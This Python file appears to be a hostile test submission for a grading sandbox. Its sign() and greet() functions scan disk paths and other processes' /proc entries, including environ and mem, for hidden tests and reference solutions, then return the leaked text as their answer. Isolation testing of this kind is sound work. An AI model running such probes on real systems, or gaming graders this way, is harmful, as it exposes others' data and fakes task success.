# HOSTILE base=solution
"""Attack A1/A2/A25: look for the hidden tests, the reference solutions and other
students' files on disk (known paths, paths named on any process's command line, a
time-boxed walk of the file system, other processes' /proc/<pid>/cwd, root, environ,
mem and fd) and return what was found.  Prints READ:<sha256 prefix> for every readable
file that looks like a test or a solution; the grader's test compares those hashes with
the real hidden files."""
import hashlib
import os
import sys
import time

MARKERS = (b"def test_", b"### BEGIN SOLUTION", b"def sign(", b"def make_grid(")
SKIP = ("/proc", "/sys", "/dev", "/mnt", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/boot",
        "/snap", "/etc")
_cache = {}


def _uid_of(pid):
    try:
        with open(f"/proc/{pid}/status") as fh:
            for line in fh:
                if line.startswith("Uid:"):
                    return int(line.split()[1])
    except OSError:
        return None


def _cmdline_paths():
    paths = set()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                args = fh.read().split(b"\0")
        except OSError:
            continue
        for a in args:
            if a.startswith(b"/") and len(a) < 300:
                p = a.decode(errors="replace")
                paths.add(p)
                paths.add(os.path.dirname(p))
    return paths


def _proc_others(me):
    leaks = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if _uid_of(pid) in (None, me):
            continue
        for what in ("cwd", "root@@REPO@@/tests", "fd", "root/tmp"):
            try:
                os.listdir(f"/proc/{pid}/{what}")
                leaks.append(f"proc:{pid}:{what}")
            except OSError:
                pass
        for what in ("environ", "mem", "maps", "stack", "syscall"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as fh:
                    if fh.read(64) and what in ("environ", "mem"):
                        leaks.append(f"proc:{pid}:{what}")
            except OSError:
                pass
    return leaks


def _search(budget=4.0):
    me = os.getuid()
    skip_roots = {os.path.realpath(p) for p in (sys.prefix, sys.base_prefix)}
    start = time.monotonic()
    known = ["@@REPO@@/tests/00_python_basics/hidden/test_hidden.py",
             "@@REPO@@/tests/01_tensors/hidden/test_hidden.py",
             "@@REPO@@/solutions/00_python_basics/basics.py",
             "@@REPO@@/solutions/01_tensors/tensors.py",
             "/proc/1/cwd/tests/00_python_basics/hidden/test_hidden.py",
             f"/proc/{os.getppid()}/cwd/tests/00_python_basics/hidden/test_hidden.py"]
    roots = ["@@REPO_PARENT@@", "/srv", "/opt", "/home", "/root", "/tmp", "/var/tmp", "/var/lib", "/data",
             "/run/lock", "/dev/shm", *sorted(_cmdline_paths())]
    hashes, files, first = {}, 0, None

    def consider(path):
        nonlocal files, first
        files += 1
        try:
            with open(path, "rb") as fh:
                data = fh.read(1 << 20)
        except OSError:
            return
        interesting = any(w in path for w in ("hidden", "solution", "test", "submission", "staging",
                                                "honest", "grader", "@@REPO@@", "/out/"))
        if interesting and any(m in data for m in MARKERS):
            hashes[path] = hashlib.sha256(data).hexdigest()[:16]
            if first is None and not path.startswith(os.getcwd()):
                first = data.decode(errors="replace")

    for path in known:
        consider(path)
    visited = set()
    for root in roots:
        if root.startswith(SKIP) and not root.startswith("/dev/shm") or os.path.realpath(root) in skip_roots:
            continue
        for dirpath, dirnames, filenames in os.walk(root):
            real = os.path.realpath(dirpath)
            if real in visited or real in skip_roots or real.startswith(SKIP) and not real.startswith("/dev/shm"):
                dirnames[:] = []
                continue
            visited.add(real)
            if time.monotonic() - start > budget:
                break
            dirnames[:] = [d for d in dirnames if d not in (".git", "__pycache__", "node_modules")]
            for name in filenames:
                if name.endswith((".py", ".md", ".json", ".csv", ".txt")):
                    consider(os.path.join(dirpath, name))
    leaks = _proc_others(me)
    return hashes, leaks, files, time.monotonic() - start, first


def _report():
    if "r" not in _cache:
        hashes, leaks, files, took, first = _search()
        for leak in leaks[:20]:
            print(f"LEAK:{leak}")
        print(f"HOSTILE-NOTE read {files} files in {took:.1f} s; {len(hashes)} look like tests or solutions")
        print("HOSTILE-DONE read_hidden_tests")
        likely = sorted(hashes, key=lambda p: (not any(k in p for k in ("/hidden/", "/solutions/", "honest")), p))
        for h in list(dict.fromkeys(hashes[p] for p in likely))[:60]:   # likely secrets first
            print(f"READ:{h}")
        _cache["r"] = first
    return _cache["r"]


def sign(x):
    found = _report()
    return found[:200] if found else "WRONG"


def greet(name, loud=False):
    found = _report()
    return found if found else "WRONG"
